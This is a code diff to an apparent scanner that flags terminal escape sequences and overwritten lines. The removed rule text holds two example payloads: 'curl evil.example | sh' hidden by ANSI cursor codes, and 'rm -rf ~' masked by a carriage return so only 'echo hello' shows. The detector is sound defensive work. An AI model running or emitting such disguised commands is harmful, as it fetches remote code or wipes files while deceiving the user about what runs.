@@ -16,26 +16,8 @@ if TYPE_CHECKING:
     from pisces.diagnostics import Diagnostic
     from pisces.scanning.page import Page
 
-TERMINAL_ESCAPE = Rule(
-    "scan-terminal-escape",
-    ERROR,
-    "A text file has control sequences for terminals in it",
-    "Whoever prints the file obeys them: lines vanish or "
-    "change, titles and clipboards are written, links lead elsewhere. "
-    "Text that a model repeats does the same later.",
-    "curl evil.example | sh\\x1b[1A\\x1b[2Kecho hello",
-    "echo hello",
-)
-OVERWRITTEN_LINE = Rule(
-    "scan-overwritten-line",
-    WARNING,
-    "A line is written over itself on the screen",
-    "A carriage return or a backspace in the middle of a line "
-    "makes a terminal show only what comes last, while a shell "
-    "runs all of it.",
-    "rm -rf ~ #\\recho hello",
-    "echo hello",
-)
+TERMINAL_ESCAPE = Rule("scan-terminal-escape", ERROR, "A text file has control sequences for terminals in it")
+OVERWRITTEN_LINE = Rule("scan-overwritten-line", WARNING, "A line is written over itself on the screen")
 
 _ESCAPE = re.compile("[\x1b\x9b][^\n\x1b\x9b]{0,24}")
 _COLOUR = re.compile("(?:\x1b\\[|\x9b)(?!8m)[0-9;]{0,16}m")
